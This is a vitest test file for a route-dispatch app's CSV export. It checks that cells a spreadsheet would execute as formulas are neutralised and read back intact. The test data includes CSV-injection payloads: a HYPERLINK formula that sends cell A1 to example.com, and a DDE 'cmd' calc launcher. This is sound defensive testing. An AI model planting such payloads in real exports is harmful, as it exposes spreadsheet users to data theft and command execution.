import { expect, test } from "vitest";
import { stopsOf } from "../src/dispatch/intake/columns";
import { recognise } from "../src/dispatch/intake/roles";
import { readText } from "../src/dispatch/intake/sheet";
import { planCSV } from "../src/dispatch/plan/export";
import type { Plan } from "../src/dispatch/plan/plan";
import { BLANK_STOP, BLANK_VEHICLE, problemOf } from "../src/dispatch/problem/model";
import { readCSV, withoutGuard, writeCSV } from "../src/ui/csv";

/** Cells that spreadsheets would run, or that only look so, and cells with what a CSV reserves. */
const CELLS = [
  '=HYPERLINK("https://example.com?"&A1)',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "＝1+1",
  "x;=1+1",
  "x\n=1+1",
  "x;\t @y",
  "'=1",
  "''=1",
  "'Hof",
  "-5",
  "-5,5",
  "- 5",
  "+44 20 7946 0000",
  'a, b; “c” "d"\te',
  "",
];

test("a cell that a spreadsheet would run is a text, and reads back the same", () => {
  const text = writeCSV(CELLS.map((cell, i) => [i, cell, -1.5]));
  expect(readCSV(text.slice(1))).toEqual(CELLS.map((cell, i) => [String(i), cell, "-1.5"]));
  for (const row of text.slice(1).split("\r\n")) {
    // As a spreadsheet that separates by one of these sees it.
    for (const cell of row.split(/[,;\t\r\n]/)) {
      expect(/^[\s"]*[=+@＝＋－＠]|^[\s"]*-(?!\d+(\.\d+)?"?$)/.test(cell), row).toBe(false);
    }
  }
  expect(CELLS.map(withoutGuard).filter((cell, i) => cell !== CELLS[i])).toEqual(["=1", "'=1"]);
});

test("numbers stay numbers, and a spreadsheet sees that it is UTF-8", () => {
  expect(writeCSV([["lat", "lon"], [-33.5, "-7.25"]])).toBe("\uFEFFlat,lon\r\n-33.5,-7.25\r\n"); // prettier-ignore
});

test("a plan's table imports as the stops that it was made of", () => {
  const stops = CELLS.filter((cell) => cell.trim() === cell).map((cell, i) => ({
    ...BLANK_STOP,
    id: `=${i}`,
    name: cell || "x",
    address: `${cell} Street`.trim(),
    at: [-7.25 - i / 100, -49.3] as const,
    amounts: [i],
  }));
  const problem = problemOf({
    stops,
    vehicles: [{ ...BLANK_VEHICLE, id: "v", name: "=Van" }],
    loads: ["boxes"],
  });
  const left = stops.map(({ id }) => ({ stop: id, reason: "=late" }));
  const plan = { problem, routes: [], left } as unknown as Plan;
  const sheet = readText(planCSV(plan));
  const back = stopsOf(sheet, recognise(sheet)).stops;
  const shown = ({ id, name, address, at, amounts }: (typeof back)[number]) => ({ id, name, address, at, amounts }); // prettier-ignore
  expect(back.map(shown)).toEqual(stops.map(shown));
});
